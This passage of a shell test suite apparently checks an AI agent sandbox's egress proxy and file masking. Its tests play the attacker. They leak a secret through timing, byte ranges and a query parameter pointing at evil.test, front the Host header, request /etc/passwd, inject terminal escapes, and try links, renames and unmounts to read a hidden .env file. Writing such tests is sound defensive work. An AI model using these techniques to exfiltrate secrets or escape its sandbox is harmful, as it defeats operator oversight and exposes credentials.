# goes to a host a secret goes to.
t_guessing_by_the_hold_cut_off() {
	secrets_policy
	nrun -- /bin/sh -c "
for i in \$(seq 1 10); do
	curl -sS -m 10 -o /dev/null -w '%{http_code} ' \"https://api.test:$GOOD/stream-echo?g=${SECRET:0:9}\"
done
echo
curl -sS -m 10 -o /dev/null -w '%{http_code}\\n' -H \"Authorization: Bearer \$API_KEY\" https://api.test:$GOOD/hello
curl -sS -m 10 -o /dev/null -w '%{http_code}\\n' https://other.test:$GOOD/hello"
	expect_eq "8 guesses, then refused" "$(stdout | head -1)" "$(printf '200 %.0s' $(seq 8))403 403 "
	expect_eq "the host's other requests too" "$(stdout | sed -n 2p)" "403"
	expect_eq "another host's not" "$(stdout | sed -n 3p)" "200"
	expect_contains "said" "$(cat "$T/events")" "a guess at its value by the hold's delay"
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
}

# The same guess, but the agent closes the connection while its guess is
# held (curl's -m shorter than the echo's pause) and never lets the hold
# go on: it learned the answer from the delay alone.  Such a hold counts
# too, else the count would bound only guesses that waited.
t_guessing_by_an_abandoned_hold_cut_off() {
	secrets_policy
	nrun -- /usr/bin/python3 -c "
import http.client, subprocess
for i in range(10):
    c = http.client.HTTPSConnection('127.0.0.1', 3128, timeout=10)
    c.set_tunnel('api.test', $GOOD)
    c.request('GET', '/stream-echo?g=${SECRET:0:9}')
    c.getresponse()    # the head came; the guess is held: seen, then closed
    c.close()
subprocess.run(['curl', '-sS', '-m', '10', '-o', '/dev/null', '-w', '%{http_code}\\n',
                'https://api.test:$GOOD/hello'])"
	expect_eq "refused after 8 abandoned holds" "$(stdout | sed -n 1p)" "403"
	expect_contains "said" "$(cat "$T/events")" "a guess at its value by the hold's delay"
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
}

# An answer cut off is said (an event, the 502 the sandbox gets) by the
# header that made it unreadable: not with that header's value, which is
# the upstream's bytes, unmasked (a server that put the swapped value in
# its Content-Encoding or Transfer-Encoding showed it there).  The codings
# a user meets are still named.
t_unreadable_answer_said_without_its_bytes() {
	secrets_policy
	nrun -- /bin/sh -c "
c() { curl -sS -m 10 \"\$@\"; echo; }
a=\"Authorization: Bearer \$API_KEY\"
c -H \"\$a\" https://api.test:$GOOD/coding-echo
c -H \"\$a\" https://api.test:$GOOD/te-echo
c -H \"\$a\" https://api.test:$GOOD/echo-gzip"
	stdout > "$T/seen"
	expect_eq "all cut off" "$(grep -c '"type":"egress.denied".*a response from api.test' "$T/events")" 3
	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
	expect_contains "a coding named" "$(cat "$T/seen")" "(Content-Encoding: gzip)"
	expect_contains "another said" "$(cat "$T/seen")" "(a Content-Encoding other than identity)"
	expect_contains "a transfer coding said" "$(cat "$T/events")" "(a Transfer-Encoding other than chunked)"
}

# A range of an answer shows a piece of it: a value cut by the range's
# start or end, or a few of its bytes alone, is no whole spelling to mask,
# and ranges at each offset give it all back (a cache in front of a
# reflecting server answers ranges of what it reflected).  A request to a
# secret's host goes without Range (or Apache's old Request-Range), and
# its answer comes whole, masked; a piece it sends unasked (a range in
# the query) is cut off, as an answer the proxy cannot read.
# The user's side: ranges to a host no secret goes to are still ranges.
t_ranges_of_an_echo_never_show_the_secret() {
	secrets_policy
	nrun -- /usr/bin/python3 -c "
import http.client, os, ssl
def get(host, path, rng, name='Range'):
    c = http.client.HTTPSConnection('127.0.0.1', 3128, timeout=10)
    c.set_tunnel(host, $GOOD)
    # the value before the range: at one offset in each answer
    h = {'Authorization': 'Bearer ' + os.environ['API_KEY']} if host == 'api.test' else {}
    if name:
        h[name] = 'bytes=%d-%d' % rng
    c.request('GET', path, headers=h)
    r = c.getresponse()
    return r.status, r.read()
for name in ('Range', 'Request-Range', None):
    got = {}
    # the value is at about 70 (the request line, Host, Authorization's name)
    for a in range(50, 130, 10):
        p = '/echo-range' if name else '/echo-range?range=%d-%d' % (a, a + 9)
        st, b = get('api.test', p, (a, a + 9), name)
        if st == 206:
            got[a] = b
    print('joined', name, len(got), b''.join(got[k] for k in sorted(got)).decode('latin-1'))
st, b = get('api.test', '/echo-range', (0, 9))
print('whole', st, b.decode('latin-1'))
st, b = get('other.test', '/echo-range', (0, 9))
print('other', st, b.decode('latin-1'))"
	stdout > "$T/seen"
	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
	expect_contains "no range to a secret's host" "$(cat "$T/seen")" "whole 200 GET /echo-range"
	expect_contains "masked" "$(cat "$T/seen")" "Bearer $(stars)"
	expect_contains "a range elsewhere still one" "$(cat "$T/seen")" "other 206 GET /echo-"
	expect_eq "a Range went to other.test only" "$(count '^Range: bytes' "$GOODLOG")" 1
	expect_eq "nor a Request-Range" "$(count 'Request-Range' "$GOODLOG")" 0
	expect_contains "a piece unasked: cut off" "$(cat "$T/seen")" "joined None 0 "
	expect_contains "said" "$(cat "$T/events")" "206 Partial Content, unasked"
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
}

# A chunked answer's trailers are content: a value echoed in one is masked,
# also when the proxy reads the trailers in two (they went on unread while
# they were not whole).  A chunk's extension is framing, not content, and
# a value there is masked too (it went on as it came).  curl, which reads
# trailers and skips extensions, gets its answers.
t_trailers_and_extensions_never_show_the_secret() {
	secrets_policy
	nrun -- /usr/bin/python3 -c "$(pipelined_py)
import subprocess, sys
for path in ('echo-trailer', 'echo-ext'):
    pipelined(b'/' + path.encode())
    sys.stdout.flush()
    r = subprocess.run(['curl', '-sS', '-m', '10', '-H', 'Authorization: Bearer ' +
                        os.environ['API_KEY'], 'https://api.test:$GOOD/' + path])
    print(' curl %d' % r.returncode, flush=True)"
	stdout > "$T/seen"
	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
	expect_contains "masked" "$(cat "$T/seen")" "X-Echo: Bearer $(stars)"
	expect_contains "curl's answer" "$(cat "$T/seen")" "!!! curl 0"
	expect_contains "an extension masked" "$(cat "$T/seen")" "3;echo=\"Bearer $(stars)\""
	expect_contains "curl's answer (extensions skipped)" "$(cat "$T/seen")" "!!!!!! curl 0"
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
}

# A query's value goes only as the value of its own parameter as the
# server reads it: parameters split at "&", and a later "?" is a byte of
# the one before.  "?url=https://evil.test/?key=PH" put the value in url,
# for a server that fetches that URL (a page-speed or link-preview API
# under a key in ?key=) to send it to evil.test.  The user's side: first,
# last, amid others, it is swapped.
t_query_value_only_in_its_own_parameter() {
	secrets_policy
	nrun -- /bin/sh -c "
h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
h \"https://api.test:$GOOD/fetch?url=https://evil.test/?key=\$Q_KEY\"
h \"https://api.test:$GOOD/fetch?url=https://evil.test/?key=\$Q_KEY&x=1\"
h \"https://api.test:$GOOD/first?key=\$Q_KEY&x=1\"
h \"https://api.test:$GOOD/last?a=1&b=2&key=\$Q_KEY\"
h \"https://api.test:$GOOD/amid?a=1&key=\$Q_KEY&b=2\""
	expect_eq "statuses" "$(stdout | head -5 | tr '\n' ' ')" "403 403 200 200 200 "
	expect_not_contains "never in another parameter" "$(cat "$GOODLOG")" "evil.test/?key=$QSECRET"
	expect_contains "first" "$(cat "$GOODLOG")" "GET /first?key=$QSECRET&x=1 "
	expect_contains "last" "$(cat "$GOODLOG")" "GET /last?a=1&b=2&key=$QSECRET "
	expect_contains "amid" "$(cat "$GOODLOG")" "GET /amid?a=1&key=$QSECRET&b=2 "
	expect_eq "refused, said" "$(grep '"type":"egress.denied"' "$T/events" | grep -c 'secret Q_KEY in the URL')" 2
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$QSECRET"
}

# The user's side of the same: a call with the secret whose answer does not
# reflect it comes back byte for byte, large or small, kept alive or not;
# an answer that ends with a value's first bytes is not held back waiting
# for the rest.
t_secret_calls_answered_unchanged() {
	secrets_policy
	local n=3000000
	nrun -- /bin/sh -c "
a=\"Authorization: Bearer \$API_KEY\"
curl -sS -m 30 -H \"\$a\" \"https://api.test:$GOOD/big?n=$n\" | sha256sum
curl -sS -m 10 -H \"\$a\" https://api.test:$GOOD/hello
/usr/bin/python3 -c '
import http.client, os
c = http.client.HTTPSConnection(\"127.0.0.1\", 3128, timeout=10)
c.set_tunnel(\"api.test\", $GOOD)
for i in range(2):
    c.request(\"GET\", \"/prefix\", headers={\"Authorization\": \"Bearer \" + os.environ[\"API_KEY\"]})
    b = c.getresponse().read()
    print(\"prefix\", i, len(b))
'"
	local want
	want=$(/usr/bin/python3 -c "
import hashlib, sys
n = $n
block = bytes(range(256)) * 4096
h = hashlib.sha256()
while n > 0:
    h.update(block[:n]); n -= len(block[:n])
print(h.hexdigest())")
	expect_contains "a large answer unchanged" "$(stdout)" "$want" ||
		{ echo "its stderr: $(json stderr < "$T/out" | head -c 600)"; tail -5 "$GOODLOG"; }
	expect_contains "a small one" "$(stdout)" "hello from upstream /hello"
	expect_contains "kept alive, a value's start at the end: not held" "$(stdout)" "prefix 1 $((5 + 7 + ${#SECRET} - 1))"
	expect_eq "no denials" "$(denials)" 0
}

# The agent that learned a value some other way (a reflection, a file the
# operator left in the workspace) cannot send it on: the real value, in any
# form, anywhere in a request the proxy reads, is refused as a placeholder
# out of place is.
t_real_value_in_a_request_is_refused() {
	secrets_policy "" ', "env": {"set": {"REAL": "'"$SECRET"'", "REALB": "'"$(printf 'u:%s' "$SECRET" | base64 -w0)"'"}}'
	nrun -- /bin/sh -c "
h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
h -H \"X-Leak: \$REAL\" https://other.test:$GOOD/header
h \"https://other.test:$GOOD/url?v=\$REAL\"
h -d \"x=\$REAL\" https://other.test:$GOOD/body
h -H \"Authorization: Basic \$REALB\" https://other.test:$GOOD/basic
h -H \"Authorization: Bearer \$REAL\" https://api.test:$GOOD/own-host
h -H \"Authorization: Bearer \$API_KEY\" https://api.test:$GOOD/placeholder"
	expect_eq "statuses" "$(stdout | head -6 | tr "\n" " ")" "403 403 403 403 403 200 "
	expect_eq "the value left once, swapped in" "$(count "$SECRET" "$GOODLOG")" 1
	expect_contains "named" "$(cat "$T/events")" "the value of secret API_KEY"
	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
	# in a path a host's rules refuse: refused for the value, not by the
	# rules, whose reason shows the path (and so the value) in the event
	policy ", {\"host\": \"api.test:$GOOD\", \"methods\": [\"GET\"], \"paths\": [\"/ok/*\"]}" \
		', "env": {"set": {"REAL": "'"$SECRET"'"}}, '"${SECRETS//GOOD/$GOOD}"
	sed -i "s|QFILE|$TEST_TMP/qkey|" "$T/p.json"
	nrun -- /bin/sh -c "
h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
h \"https://api.test:$GOOD/no/\$REAL\"
h \"https://api.test:$GOOD/no/$(printf '%0186d' 0)\$REAL\"
h \"https://api.test:$GOOD/ok/x\""
	expect_eq "statuses (rules)" "$(stdout | head -3 | tr "\n" " ")" "403 403 200 "
	expect_eq "refused for the value" "$(grep '"type":"egress.denied"' "$T/events" | grep -c 'the value of secret API_KEY in the URL')" 2
	expect_not_contains "the value never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
	expect_not_contains "nor its start" "$(cat "$T/events" "$T/out")" "${SECRET:0:10}"
}

t_methods_paths_and_caps() {
	policy ", {\"host\": \"api.test:$GOOD\", \"methods\": [\"GET\"], \"paths\": [\"/repos/acme/*\"]}, {\"host\": \"other.test:$GOOD\", \"methods\": [\"POST\"], \"max_body\": 100}" \
		', "env": {"set": {"LONG": "'"$(printf 'a%.0s' $(seq 1 300))"'"}}'
	sed -i 's/"tls_upstream_ca"/"max_url": 200, "tls_upstream_ca"/' "$T/p.json"
	nrun -- /bin/sh -c "
h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
h https://api.test:$GOOD/repos/acme/ok
h -X POST https://api.test:$GOOD/repos/acme/post
h https://api.test:$GOOD/etc/passwd
h https://api.test:$GOOD/repos/acme/\$LONG
h -d small https://other.test:$GOOD/small
h -d \$LONG https://other.test:$GOOD/large
h -H 'Transfer-Encoding: chunked' -d \$LONG https://other.test:$GOOD/chunked-large
h --path-as-is https://api.test:$GOOD/repos/acme/../../dotdot
curl -sS -m 10 -D - -o /dev/null https://api.test:$GOOD/nope | grep -i x-corral-denied"
	expect_eq "statuses" "$(stdout | head -8 | tr '\n' ' ')" "200 403 403 414 200 413 413 403 "
	expect_not_contains "a dot segment did not leave" "$(cat "$GOODLOG")" "dotdot"
	expect_contains "reason header" "$(stdout)" "X-Corral-Denied: GET /nope on api.test is outside the methods and paths"
	expect_contains "allowed went" "$(cat "$GOODLOG")" "GET /repos/acme/ok"
	expect_contains "small body went" "$(cat "$GOODLOG")" "POST /small"
	expect_not_contains "refused ones did not" "$(cat "$GOODLOG")" "/etc/passwd"
	expect_not_contains "large body did not" "$(cat "$GOODLOG")" "/large"
	expect_not_contains "nor all of the chunked one" "$(cat "$GOODLOG")" "$(printf 'a%.0s' $(seq 1 300))"
	expect_eq "denials" "$(denials)" 7
	expect_contains "attributed, with the path" "$(grep '/etc/passwd' "$T/events")" '"pid":'
	expect_contains "counted in the result" "$(json reason < "$T/out")" "7 denials"
}

# A host the policy terminates is terminated whichever way the tunnel was
# asked for: through SOCKS5 as through CONNECT, its rules hold (a client
# that trusts anything cannot make a blind tunnel of it).
t_socks5_terminated_like_connect() {
	policy ", {\"host\": \"api.test:$GOOD\", \"methods\": [\"GET\"]}"
	nrun -- /bin/sh -c "
h() { curl -sS -m 10 -k --socks5-hostname 127.0.0.1:1080 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
h https://api.test:$GOOD/socks-get
h -X POST https://api.test:$GOOD/socks-post
curl -sSv -m 10 --socks5-hostname 127.0.0.1:1080 -o /dev/null https://api.test:$GOOD/issuer 2>&1 | grep -i 'issuer:'"
	expect_eq "statuses" "$(stdout | head -2 | tr '\n' ' ')" "200 403 "
	expect_contains "minted by the sandbox's CA" "$(stdout)" "corral sandbox CA"
	expect_contains "GET went" "$(cat "$GOODLOG")" "GET /socks-get"
	expect_not_contains "POST did not" "$(cat "$GOODLOG")" "socks-post"
	expect_eq "denials" "$(denials)" 1
}

# Port 80 is never terminated: a tunnel there (CONNECT, SOCKS5, transparent)
# to a host whose requests are narrowed is read request by request, as the
# proxy's own plain HTTP is; passed on blind it would carry any method,
# path or Host.
t_narrowed_plain_http_tunnels_read() {
	[ -n "$NS" ] || { skip "needs root, for an upstream on port 80 in a namespace"; return 77; }
	local pf=$TEST_TMP/p80.port
	ip netns exec "$NS" /usr/bin/python3 "$HERE/fixtures.py" http "$pf" "$ADDR:80" >/dev/null 2>&1 &
	# a test runs in a subshell: its PIDS is not cleanup_all's, and port 80 is wanted again
	trap "kill $! 2>/dev/null || true" EXIT
	for _ in $(seq 1 100); do [ -s "$pf" ] && break; sleep 0.05; done
	[ -s "$pf" ] || { fail "the port 80 upstream did not start"; return; }
	printf '{"network": {"mode": "proxy", "allow": [{"host": "web.test", "methods": ["GET"]}], "hosts": {"web.test": "%s"}}}\n' \
		"$ADDR" > "$T/p.json"
	chmod 644 "$T/p.json"
	local script="
h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
h -X POST -d x http://web.test/plain-post
h -p -X POST -d x http://web.test/connect-post
h --socks5-hostname 127.0.0.1:1080 -X POST -d x http://web.test/socks-post
h -p -H 'Host: evil.test' http://web.test/connect-fronted
curl -sS -m 10 -p http://web.test/connect-get http://web.test/connect-get2
curl -sS -m 10 --socks5-hostname 127.0.0.1:1080 http://web.test/socks-get"
	nrun -- /bin/sh -c "$script"
	expect_eq "statuses" "$(stdout | head -4 | tr '\n' ' ')" "403 403 403 403 "
	expect_contains "GET through CONNECT" "$(stdout)" "hello from upstream /connect-get"
	expect_contains "twice on one tunnel" "$(stdout)" "hello from upstream /connect-get2"
	expect_contains "GET through SOCKS5" "$(stdout)" "hello from upstream /socks-get"
	expect_eq "denials" "$(denials)" 4
	expect_contains "fronted" "$(cat "$T/events")" "a request for evil.test on a connect connection to web.test:80"
	printf '{"network": {"mode": "proxy", "transparent": true, "allow": [{"host": "web.test", "methods": ["GET"]}], "hosts": {"web.test": "%s"}}}\n' \
		"$ADDR" > "$T/p.json"
	nrun -- /usr/bin/env -i PATH=/usr/bin:/bin /bin/sh -c "
h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
h -X POST -d x http://web.test/transparent-post
h -X POST -d x -H 'Host: web.test' http://198.18.5.5/bare-post
curl -sS -m 10 http://web.test/transparent-get"
	expect_eq "transparent statuses" "$(stdout | head -2 | tr '\n' ' ')" "403 403 "
	expect_contains "GET transparent" "$(stdout)" "hello from upstream /transparent-get"
	expect_eq "transparent denials" "$(denials)" 2
}

# Port 80 of a host no rule narrows: plaintext there must be HTTP, and
# every request on a tunnel (CONNECT, SOCKS5, transparent; the first and
# each one after it on a kept-alive connection) is for the name the tunnel
# was judged for: on a shared address (a CDN) another Host reaches another
# site.  Beside the attacker's requests, a user's: keep-alive, bodies,
# chunked, spellings of the same name, a WebSocket (blind after its 101).
t_port80_tunnels_read_every_request() {
	[ -n "$NS" ] || { skip "needs root, for an upstream on port 80 in a namespace"; return 77; }
	local pf=$T/web80.port log=$T/web80.log c k
	ip netns exec "$NS" /usr/bin/python3 "$HERE/fixtures.py" web "$pf" "$log" "$ADDR:80" >/dev/null 2>&1 &
	trap "kill $! 2>/dev/null || true" EXIT
	for _ in $(seq 1 100); do [ -s "$pf" ] && break; sleep 0.05; done
	[ -s "$pf" ] || { fail "the port 80 upstream did not start"; return; }
	c=$(cat "$HERE/tunnel_client.py")
	printf '{"network": {"mode": "proxy", "allow": ["web.test"], "hosts": {"web.test": "%s"}}}\n' \
		"$ADDR" > "$T/p.json"
	chmod 644 "$T/p.json"
	# the reviewer's: curl -p -H "Host: evil.test" http://web.test/
	nrun -- /bin/sh -c "
h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
h -p -H 'Host: evil.test' http://web.test/curl-connect-fronted
h --socks5-hostname 127.0.0.1:1080 -H 'Host: evil.test' http://web.test/curl-socks-fronted
curl -sS -m 10 -p http://web.test/curl-a http://web.test/curl-b"
	expect_eq "curl fronted" "$(stdout | head -2 | tr '\n' ' ')" "403 403 "
	expect_contains "curl keep-alive" "$(stdout)" "GET /curl-a host=web.test body=0"
	expect_contains "curl keep-alive 2" "$(stdout)" "GET /curl-b host=web.test body=0"
	expect_eq "curl denials" "$(denials)" 2
	nrun -- /usr/bin/python3 -c "$c" connect,socks
	for k in connect socks; do
		expect_contains "$k keep-alive" "$(stdout)" \
			"$k-keepalive 200[GET /one host=web.test body=0] 200[POST /two host=web.test body=5] 200[POST /three host=web.test body=5] 403"
		expect_contains "$k spellings" "$(stdout)" \
			"$k-spelling 200[GET /five host=WEB.Test. body=0] 200[GET /six host=web.test body=0] 403"
		expect_contains "$k websocket" "$(stdout)" "$k-ws 101 echo=raw bytes after 101"
		expect_contains "$k no upgrade" "$(stdout)" "$k-nows 426 200[GET /after host=web.test body=0] 403"
		expect_contains "$k half-closed" "$(stdout)" "$k-halfclose 200[GET /half host=web.test body=0]"
		expect_contains "$k denied" "$(cat "$T/events")" \
			"a request for evil.test on a $k connection to web.test:80 (its Host must name"
	done
	expect_eq "tunnel denials" "$(denials)" 6
	# plaintext on port 80 that is not HTTP names no host: refused, and said why
	nrun -- /usr/bin/python3 -c '
import socket
s = socket.create_connection(("127.0.0.1", 3128), 10)
s.sendall(b"CONNECT web.test:80 HTTP/1.1\r\n\r\n")
s.recv(4096)
s.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
print("not-http", s.recv(4096).split(b"\r\n")[0].decode())'
	expect_contains "not HTTP" "$(stdout)" "not-http HTTP/1.1 400"
	expect_contains "not HTTP, said" "$(cat "$T/events")" \
		"a connect tunnel to web.test:80 that does not carry HTTP the proxy can read"
	# TLS on port 80 is judged by its SNI, as before
	nrun -- /usr/bin/python3 -c '
import socket, ssl
for name in ("evil.test", "web.test"):
    o = ssl.MemoryBIO()
    t = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), o, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    s = socket.create_connection(("127.0.0.1", 3128), 10)
    s.sendall(b"CONNECT web.test:80 HTTP/1.1\r\n\r\n")
    s.recv(4096)
    s.sendall(o.read())
    s.settimeout(2)
    try:
        print("tls", name, s.recv(4096)[:12])
    except OSError as e:
        print("tls", name, e.__class__.__name__)'
	expect_contains "TLS, another SNI: closed" "$(stdout)" "tls evil.test b''"
	expect_contains "TLS, said" "$(cat "$T/events")" "TLS SNI evil.test does not match the CONNECT name web.test"
	# its own SNI: connected, the hello passed on (to an upstream that speaks HTTP)
	expect_eq "TLS, its SNI: connected" "$(grep -c '"type":"egress.allowed"' "$T/events")" 1
	expect_eq "TLS, its SNI: not refused" "$(denials)" 1
	# the same through transparent mode: by our DNS's name, by a bare address
	printf '{"network": {"mode": "proxy", "transparent": true, "allow": ["web.test"], "hosts": {"web.test": "%s"}}}\n' \
		"$ADDR" > "$T/p.json"
	nrun -- /usr/bin/env -i PATH=/usr/bin:/bin /usr/bin/python3 -c "$c" transparent 198.18.5.5 80
	cp "$T/out" "$T/out.bare"
	expect_eq "transparent denials (a bare address)" "$(denials)" 3
	nrun -- /usr/bin/env -i PATH=/usr/bin:/bin /usr/bin/python3 -c "$c" transparent
	cp "$T/out" "$T/out.name"
	expect_eq "transparent denials (a name)" "$(denials)" 3
	for k in name bare; do
		cp "$T/out.$k" "$T/out"
		expect_contains "$k keep-alive" "$(stdout)" \
			"transparent-keepalive 200[GET /one host=web.test body=0] 200[POST /two host=web.test body=5] 200[POST /three host=web.test body=5] 403"
		expect_contains "$k spellings" "$(stdout)" \
			"transparent-spelling 200[GET /five host=WEB.Test. body=0] 200[GET /six host=web.test body=0] 403"
		expect_contains "$k websocket" "$(stdout)" "transparent-ws 101 echo=raw bytes after 101"
		expect_contains "$k no upgrade" "$(stdout)" "transparent-nows 426 200[GET /after host=web.test body=0] 403"
		expect_contains "$k half-closed" "$(stdout)" "transparent-halfclose 200[GET /half host=web.test body=0]"
	done
	expect_contains "transparent denied" "$(cat "$T/events")" \
		"a request for evil.test on a transparent connection to web.test:80"
	expect_not_contains "no other name reached the upstream" "$(cat "$log")" "evil.test"
	expect_not_contains "nor another port" "$(cat "$log")" "web.test:81"
}

t_bad_upstream_certificate_refused() {
	policy
	nrun -- curl -sS -m 10 -D - "https://bad.test:$BAD/x"
	expect_contains "502" "$(stdout)" "502"
	expect_contains "why" "$(stdout)" "did not verify"
	expect_eq "an event" "$(denials)" 1
	expect_not_contains "no request reached it" "$(cat "$BADLOG")" "GET /x"
	# a client that does not trust the sandbox's CA: nothing leaves, it is said
	nrun -- /usr/bin/python3 -c "
import http.client, ssl
c = http.client.HTTPSConnection('127.0.0.1', 3128, context=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT), timeout=10)
c.set_tunnel('other.test', $GOOD)
try:
    c.request('GET', '/distrust'); print('went')
except ssl.SSLError as e:
    print('refused', e.reason)"
	expect_contains "client refused" "$(stdout)" "refused"
	expect_contains "an event" "$(cat "$T/events")" '"type":"egress.tls_refused"'
	expect_not_contains "nothing left" "$(cat "$GOODLOG")" "/distrust"
}

t_ca_inside_without_its_key() {
	policy
	nrun -- /bin/sh -c '
openssl x509 -in /etc/corral/ca.pem -noout -subject -fingerprint -ext basicConstraints
echo "env $SSL_CERT_FILE $REQUESTS_CA_BUNDLE $CURL_CA_BUNDLE $GIT_SSL_CAINFO $PIP_CERT $NODE_EXTRA_CA_CERTS"
grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt /etc/corral/bundle.pem | tr "\n" " "; echo
grep -rl "PRIVATE KEY" /etc /tmp /home /workspace 2>/dev/null | wc -l | sed "s/^/keys /"
echo x > /etc/corral/ca.pem 2>/dev/null && echo writable'
	expect_contains "a CA" "$(stdout)" "CA:TRUE"
	expect_contains "ours" "$(stdout)" "corral sandbox CA"
	expect_contains "env" "$(stdout)" "env /etc/corral/bundle.pem /etc/corral/bundle.pem /etc/corral/bundle.pem /etc/corral/bundle.pem /etc/corral/bundle.pem /etc/corral/ca.pem"
	expect_contains "no key inside" "$(stdout)" "keys 0"
	expect_not_contains "read-only" "$(stdout)" "writable"
	local fp1 n1 n2
	fp1=$(stdout | grep -i fingerprint)
	n1=$(stdout | grep -o 'ca-certificates.crt:[0-9]*' | cut -d: -f2)
	n2=$(stdout | grep -o 'bundle.pem:[0-9]*' | cut -d: -f2)
	expect_eq "the system bundle is ours too" "$n1" "$n2"
	[ "${n1:-0}" -gt 1 ] || fail "the bundle lost the system roots ($n1)"
	nrun -- openssl x509 -in /etc/corral/ca.pem -noout -fingerprint
	[ -n "$fp1" ] && [ "$(stdout)" != "$fp1" ] || fail "two sandboxes share a CA ($fp1)"
}

t_policy_errors() {
	printf '{"network": {"mode": "proxy", "allow": [{"host": "a.test", "tls": "tunnel", "methods": ["GET"]}]}}' > "$T/p.json"
	nrun -- true
	expect_contains "tunnel with methods" "$(cat "$T/err" "$T/out")" "network.allow[0].tls"
	printf '{"secrets": [{"name": "K", "from_env": "X", "hosts": ["a.test"]}]}' > "$T/p.json"
	nrun -- true
	expect_contains "no position" "$(cat "$T/err" "$T/out")" "where it may appear"
	printf '{"network": {"mode": "proxy"}, "secrets": [{"name": "K", "from_env": "CORRAL_UNSET_VAR_X", "hosts": ["a.test"], "header": "X-K"}]}' > "$T/p.json"
	nrun -- true
	expect_contains "unset source" "$(cat "$T/err" "$T/out")" "CORRAL_UNSET_VAR_X is not set"
}

t_srt_settings_translated_key_by_key() {
	mkdir -p "$T/proj/.git"
	cat > "$T/srt.json" <<-EOF2
	{"network": {"allowedDomains": ["api.test", "*"], "deniedDomains": ["evil.test"],
	             "allowUnixSockets": ["/var/run/docker.sock"]},
	 "filesystem": {"allowWrite": ["."], "denyWrite": [".git"], "denyRead": ["~/.ssh"]},
	 "ignoreViolations": {}}
	EOF2
	chmod -R a+rX "$T"
	(cd "$T/proj" && HOME=/nonexistent-home timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c \
		'echo "proxy=$HTTPS_PROXY"; curl -sS -m 5 -o /dev/null -w "%{http_code}\n" http://evil.test/' \
		> "$T/out" 2> "$T/err" < /dev/null) || true
	local e
	e=$(cat "$T/err")
	expect_contains "allowed" "$e" 'network.allowedDomains[0]: "api.test" -> network.allow'
	expect_contains "star refused" "$e" 'network.allowedDomains[1]: not mapped'
	expect_contains "denied" "$e" 'network.deniedDomains[0]: "evil.test" -> network.deny'
	expect_contains "sockets" "$e" 'network.allowUnixSockets: not mapped: corral does not filter connect(2)'
	expect_contains "write" "$e" "filesystem.allowWrite[0]: \".\" -> filesystem.rw \"$T/proj\""
	expect_contains "deny write" "$e" "filesystem.denyWrite[0]: \".git\" -> filesystem.ro \"$T/proj/.git\""
	expect_contains "deny read outside" "$e" 'filesystem.denyRead[0]: "~/.ssh": already unreadable'
	expect_contains "the rest" "$e" 'ignoreViolations: not mapped'
	expect_contains "proxy mode" "$(cat "$T/out")" "proxy=http://127.0.0.1:3128"
	expect_contains "denied host" "$(cat "$T/out")" "403"
}

# The report quotes the settings' strings, which a project may have
# written: a value's newline wrote a line of its own ("corral: ...: ok")
# and its ESC ] 0 retitled the operator's terminal.  Shown as \xNN.
t_srt_report_quotes_as_text() {
	printf '{"filesystem": {"denyRead": ["/x\\u001b]0;t\\u0007\\ncorral: s: ok\\u009b2J"]}}\n' \
		> "$T/srt.json"
	chmod a+r "$T/srt.json"
	timeout 60 "$CORRAL" run --settings "$T/srt.json" -- true > "$T/out" 2> "$T/err" < /dev/null ||
		fail "run: $(cat "$T/err")"
	expect_eq "one line" "$(wc -l < "$T/err")" 1
	expect_contains "as text" "$(cat "$T/err")" \
		'filesystem.denyRead[0]: "/x\x1b]0;t\x07\x0acorral: s: ok\xc2\x9b2J"'
	! LC_ALL=C grep -q $'[\x1b\x07]\|\xc2\x9b' "$T/err" || fail "a control byte on stderr"
}

# srt's denyRead of a path inside what it lets the sandbox write (a
# project's .env under allowWrite ".") is hidden there (filesystem.hide),
# and the run goes on: before, the run went on and read it, then the
# settings were refused.  The agent, which may write the directory around
# it, tries every way to the content: read it, remove or rename it to put
# its own there, link it (hard, soft), rename the directory above, copy
# the tree, unmount the mask; a directory denied is empty.
t_srt_deny_read_in_a_bind_hidden() {
	mkdir -p "$T/proj/d" "$T/proj/keys" || return 1
	echo "env-secret-$$" > "$T/proj/d/.env"
	echo "key-secret-$$" > "$T/proj/keys/id"
	srt_settings '{"filesystem": {"allowWrite": ["."], "denyRead": ["./d/.env", "./keys", "./none"]}}'
	chmod -R a+rwX "$T/proj"
	local rc=0
	srt_sh "
		cat d/.env; cat keys/id; ls -A keys
		rm -f d/.env && echo removed; mv d/.env d/e2 && echo renamed
		ln d/.env hard && cat hard; ln -s d/.env soft && cat soft
		echo mine >> d/.env; cat d/.env
		mv d d2 && cat d2/.env; cp -r d2 d3 2>/dev/null; cat d3/.env 2>/dev/null
		umount d2/.env 2>/dev/null && cat d2/.env; umount -l keys 2>/dev/null; cat keys/id
		echo ran" || rc=$?
	expect_not_contains "the file" "$(cat "$T/out" "$T/err")" "env-secret-$$"
	expect_not_contains "the directory" "$(cat "$T/out" "$T/err")" "key-secret-$$"
	expect_not_contains "not removed" "$(cat "$T/out")" removed
